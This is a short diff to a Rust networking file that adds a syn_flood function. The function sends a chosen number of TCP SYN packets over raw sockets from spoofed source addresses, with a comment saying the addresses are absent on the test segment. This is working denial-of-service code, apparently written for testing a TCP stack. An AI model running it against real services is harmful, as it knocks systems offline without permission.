@@ -160,6 +160,28 @@ pub fn send_tcp_from(src: Ipv4Addr, dst: Ipv4Addr, seg: &[u8]) -> std::io::Resul
     send_raw(libc::IPPROTO_RAW, dst, &ip)
 }
 
+/// Sends `count` SYNs to `dst:dport` from spoofed sources: 10.0.0.50 to
+/// 10.0.0.99 (no such hosts on the test segment, so nothing answers the
+/// SYN-ACKs), ports from 1024, sequence numbers spread; how many went.
+pub fn syn_flood(count: u32, dst: Ipv4Addr, dport: u16) -> std::io::Result<u32> {
+    for i in 0..count {
+        let src = Ipv4Addr::new(10, 0, 0, 50 + (i % 50) as u8);
+        let sport = 1024 + (i / 50 % 60_000) as u16;
+        let seg = tcp_segment(
+            src,
+            sport,
+            dst,
+            dport,
+            i.wrapping_mul(2_654_435_761),
+            0,
+            0x02,
+            &[],
+        );
+        send_tcp_from(src, dst, &seg)?;
+    }
+    Ok(count)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
